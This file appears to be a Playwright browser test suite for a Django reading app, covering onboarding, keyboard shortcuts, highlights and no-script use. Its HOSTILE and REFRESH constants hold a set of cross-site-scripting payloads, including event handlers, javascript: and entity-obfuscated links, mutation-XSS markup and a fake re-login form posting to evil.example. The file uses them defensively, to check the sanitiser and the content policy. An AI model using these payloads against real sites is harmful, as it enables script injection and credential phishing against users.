"""Using Transom in Chromium: the first minute, the keys, the reader; with hostile text, and without scripts."""

from __future__ import annotations

from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from axe_playwright_python.sync_playwright import Axe
from django.utils import timezone
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer
from tests import factories
from tests.browser import sign_in
from tests.interfaces.web.test_browser_screens import watch
from tests.interfaces.web.world import make_world

from transom.apps.accounts.models import Profile
from transom.apps.brief.models import Feedback, Signal
from transom.apps.library.models import Highlight, ReadingState
from transom.apps.people.models import Decision
from transom.apps.sources.models import Subscription

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# A page that is left sends its last beacon while the test's database is being emptied; these tests want none.
NO_BEACON = "navigator.sendBeacon = () => true"

HOSTILE = """
<p>Before.</p>
<script>window.harm = 'script'</script>
<img src=x onerror="window.harm = 'onerror'">
<svg onload="window.harm = 'svg'"><script>window.harm = 'svg script'</script></svg>
<a href="javascript:window.harm = 'link'" id="bait">press me</a>
<a href="&#106;avascript:window.harm = 'entity'">press me</a>
<a href="java&#10;script:window.harm = 'newline'">press me</a>
<iframe srcdoc="<script>parent.harm = 'frame'</script>"></iframe>
<iframe src="javascript:parent.harm = 'frame'"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror="window.harm = 1"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.harm='noscript'>"></noscript>
<form action="https://evil.example/" id="stolen"><input name="a"><button>Sign in again</button></form>
<object data="javascript:window.harm = 'object'"></object><embed src="javascript:window.harm = 'embed'">
<style>body { display: none }</style><p style="position: fixed; inset: 0; background: url(https://evil.example/)">over</p>
<details open ontoggle="window.harm = 'toggle'"><summary>x</summary></details>
<video src="https://evil.example/a.mp4" onloadstart="window.harm = 'video'" autoplay></video>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css">
<p>After.</p>
"""
# No policy can forbid this one: only the sanitiser stands in its way.
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'


def test_two_questions_and_one_click_lead_to_the_brief(live_server: LiveServer, page: Page) -> None:
    user = factories.make_user(set_up=False)
    sign_in(page.context, user, live_server.url)
    complaints = watch(page)
    page.goto(live_server.url)
    page.get_by_label("What is your job").press_sequentially("Head of records at a county council")
    suggested = page.locator(".choice.suggested").first
    expect(suggested).to_contain_text("Records and information management")
    page.get_by_label("How many minutes").fill("12")
    suggested.get_by_role("button").click()
    page.wait_for_url(live_server.url + "/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Your brief")
    assert complaints == []
    profile = Profile.objects.get(user=user)
    assert (profile.minutes, profile.pack) == ([12] * 7, "records-management")
    assert Subscription.objects.filter(user=user, pack="records-management").count() >= 15


def test_single_keys_move_open_save_and_put_aside(live_server: LiveServer, page: Page) -> None:
    world = make_world(lines=2)
    sign_in(page.context, world.user, live_server.url)
    page.goto(live_server.url)
    page.keyboard.press("j")
    expect(page.locator(".at-it")).to_contain_text("The second door")
    page.keyboard.press("s")
    expect(page.locator(f"#does-{world.item.pk}").get_by_role("button", name="Saved")).to_be_visible()
    page.keyboard.press("j")
    page.keyboard.press("x")
    expect(page.locator(".at-it")).to_contain_text("Undo “not for me”")
    page.keyboard.press("k")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("?")
    page.keyboard.press("o")
    page.wait_for_url(f"**/read/{world.item.pk}/**")
    page.keyboard.press("/")
    page.wait_for_url("**/search/")
    expect(page.get_by_role("searchbox")).to_be_focused()
    assert ReadingState.objects.filter(user=world.user, item=world.item).exclude(saved_at=None).exists()
    assert Feedback.objects.filter(user=world.user, signal=Signal.LESS).count() == 1


def test_keys_are_letters_while_one_writes(live_server: LiveServer, page: Page) -> None:
    world = make_world()
    sign_in(page.context, world.user, live_server.url)
    page.goto(f"{live_server.url}/search/?q=door")
    box = page.get_by_role("searchbox")
    box.fill("")
    box.press_sequentially("sox?j/")
    expect(box).to_have_value("sox?j/")
    expect(page.get_by_role("dialog")).to_be_hidden()


def test_hostile_text_does_nothing_in_the_reader(live_server: LiveServer, page: Page) -> None:
    """The text goes past the store's sanitiser on purpose: what the reader does must be enough."""
    user = factories.make_user()
    item = factories.make_item(
        "<script>window.harm = 'title'</script>", body=REFRESH + HOSTILE, author="<b onclick=x>A</b>"
    )
    sign_in(page.context, user, live_server.url)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.add_init_script(NO_BEACON)
    page.goto(f"{live_server.url}/read/{item.pk}/")
    for bait in page.locator("#article a").all():
        bait.click(no_wait_after=True)
    page.wait_for_timeout(300)
    assert page.url == f"{live_server.url}/read/{item.pk}/"
    assert page.evaluate("window.harm") is None
    expect(page.get_by_text("After.")).to_be_visible()
    assert [url for url in asked if not url.startswith(live_server.url)] == []
    assert (
        page.locator(
            "#article :is(script, iframe, object, embed, form, style, link, base, meta, svg)"
        ).count()
        == 0
    )


def test_the_policy_alone_stops_hostile_text(live_server: LiveServer, page: Page) -> None:
    """Were the sanitiser ever to fail, the content policy must hold: the text is put into the page as it is."""
    user = factories.make_user()
    item = factories.make_item("A page", body="<p>Plain.</p>")
    sign_in(page.context, user, live_server.url)
    page.goto(f"{live_server.url}/read/{item.pk}/")
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on(
        "requestfailed",
        lambda request: asked.append(request.failure or "") if request.failure != "csp" else None,
    )
    page.locator("#article").evaluate("(at, html) => { at.innerHTML = html }", HOSTILE)
    page.locator("#bait").click(no_wait_after=True)
    page.locator("#stolen button").evaluate("button => button.click()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.harm") is None
    assert [what for what in asked if not what.startswith(live_server.url)] == []


def test_selected_words_can_be_marked(live_server: LiveServer, page: Page) -> None:
    world = make_world()
    Highlight.objects.all().delete()
    page.add_init_script(NO_BEACON)
    sign_in(page.context, world.user, live_server.url)
    page.goto(f"{live_server.url}/read/{world.item.pk}/")
    page.locator("#article p").first.click(click_count=3)
    page.get_by_role("button", name="Mark this").click()
    expect(page.locator("#article mark").first).to_be_visible()
    assert "the old room had two doors" in Highlight.objects.get().quote


def test_the_reader_counts_its_own_seconds(live_server: LiveServer, page: Page) -> None:
    world = make_world()
    sign_in(page.context, world.user, live_server.url)
    page.goto(f"{live_server.url}/read/{world.item.pk}/")
    with page.expect_response(lambda answer: answer.url.endswith("/time/"), timeout=10000) as answer:
        page.mouse.move(200, 200)
    page.evaluate(NO_BEACON)
    assert answer.value.status == 204
    state = ReadingState.objects.get(user=world.user, item=world.item)
    assert state.opened_at is not None
    assert state.active_seconds >= 1


def test_everything_works_without_scripts(live_server: LiveServer, browser: Browser) -> None:
    world = make_world()
    context = browser.new_context(java_script_enabled=False)
    sign_in(context, world.user, live_server.url)
    page = context.new_page()
    page.goto(live_server.url)
    line = page.locator(f"#line-{world.item.pk}")
    line.get_by_role("button", name="Save", exact=True).click()
    expect(line.get_by_role("button", name="Saved")).to_be_visible()
    line.get_by_role("link", name="The second door").click()
    expect(page.locator("#article")).to_contain_text("A register is a promise.")
    page.get_by_label("A note to yourself").fill("Without scripts.")
    page.get_by_role("button", name="Add the note").click()
    expect(page.locator("#notes")).to_contain_text("Without scripts.")
    page.get_by_role("button", name="Finished").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Your brief")
    context.close()


def test_the_brief_grows_while_it_is_made(live_server: LiveServer, page: Page) -> None:
    user, now = factories.make_user(), timezone.now()
    source = factories.make_source(state=False)
    never = {"last_fetched_at": None, "last_success_at": None, "last_status": None}
    factories.make_state(source, next_due_at=now, **never)
    factories.make_subscription(user, source, followed_at=now)
    sign_in(page.context, user, live_server.url)
    page.goto(live_server.url)
    expect(page.get_by_role("status")).to_contain_text("Your brief is being made")
    expect(page.get_by_text("That is all for today.")).to_have_count(0)
    item = factories.make_item("Just arrived", source=source, published=now, id=int(now.timestamp() * 1e6))
    factories.make_state(source)
    expect(page.get_by_text("That is all for today.")).to_be_visible(timeout=15_000)
    expect(page.get_by_role("link", name=item.title)).to_be_visible()


def test_turning_a_thing_to_do_down_leaves_one_where_one_was(live_server: LiveServer, page: Page) -> None:
    world = make_world(lines=4)
    page.set_viewport_size({"width": 700, "height": 500})
    sign_in(page.context, world.user, live_server.url)
    page.goto(live_server.url)
    line = page.locator(f"#do-{world.brief.lines.get(opportunity=world.to_note_down).pk}")
    line.get_by_role("button", name="Not this one").click()
    expect(line).to_contain_text("Turned down.")
    expect(line).to_be_in_viewport()
    assert page.evaluate("window.scrollY") > 200


def test_a_date_is_on_its_day_and_a_deadline_until_it(live_server: LiveServer, page: Page) -> None:
    user, ahead = factories.make_user(), timezone.now().replace(hour=17, minute=30) + timedelta(days=12)
    meetup = factories.make_item(event_start=ahead, event_what="event", event_floating=True)
    closes = factories.make_item(event_start=ahead, event_what="deadline", event_floating=True)
    offers = [factories.make_opportunity(user, item, "calendar") for item in (meetup, closes)]
    factories.make_brief(user, do=offers, day=timezone.now().astimezone(ZoneInfo("Asia/Tokyo")).date())
    Profile.objects.filter(user=user).update(time_zone="Asia/Tokyo")
    sign_in(page.context, user, live_server.url)
    page.goto(live_server.url)
    said = page.locator("article.line .line-from")
    day = f"{ahead:%A} {ahead.day} {ahead:%B}"
    expect(said.first).to_contain_text(f"on {day}")
    expect(said.last).to_contain_text(f"until {day}")
    expect(said.first).to_contain_text("17:30")


@pytest.mark.parametrize("scripts", [True, False])
def test_who_is_who_is_answered_in_the_brief(
    live_server: LiveServer, browser: Browser, scripts: bool
) -> None:
    world = make_world()
    line = world.brief.lines.get(leads_to__startswith="question")
    context = browser.new_context(viewport={"width": 360, "height": 720}, java_script_enabled=scripts)
    sign_in(context, world.user, live_server.url)
    page = context.new_page()
    complaints = watch(page)
    page.goto(live_server.url)
    part = page.locator(f"#question-{line.pk}")
    expect(part).to_contain_text("Are these two the same person?")
    part.get_by_role("button", name="Two people").press("Enter")
    expect(part).to_contain_text(f"{line.text}")
    expect(part).to_contain_text("Noted: two people.")
    expect(part.get_by_role("button")).to_have_count(0)
    assert page.url.partition("#")[0] == f"{live_server.url}/"
    assert Decision.objects.get(user=world.user, a=line.leads_to.split(":")[1], same=False)
    if scripts:
        expect(part.get_by_role("status")).to_be_focused()
        assert not Axe().run(page).violations_count
    assert complaints == []
    context.close()
